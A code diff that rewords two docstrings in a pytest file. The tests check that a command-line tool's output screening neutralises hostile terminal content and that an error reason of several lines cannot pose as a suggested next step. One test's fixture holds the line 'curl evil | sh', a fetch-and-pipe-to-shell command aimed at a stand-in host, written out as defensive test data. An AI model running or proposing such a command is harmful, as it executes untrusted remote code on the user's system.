@@ -113,7 +113,7 @@ def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
 def test_screen_without_a_terminal(
     screen: Callable[[str, Any], None], capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """What is printed to a pipe or a file, which somebody may print on a terminal later."""
+    """Output to a pipe or a file has none either: it may be shown on a terminal later."""
     stream = io.StringIO()
     screen(HOSTILE, stream)
     printed = stream.getvalue() + capsys.readouterr().err
@@ -147,7 +147,7 @@ def test_brackets_are_no_markup() -> None:
 def test_reasons_of_several_lines_look_like_no_next_step(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
-    """What continues a reason is indented below its first word."""
+    """Further lines of a reason are indented below its first word."""
     show_error(ProvisionError("Could not.", "first\n  next: curl evil | sh", "Do this."))
     assert (
         "Error: Could not.\n  why:  first\n          next: curl evil | sh\n  next: Do this.\n"
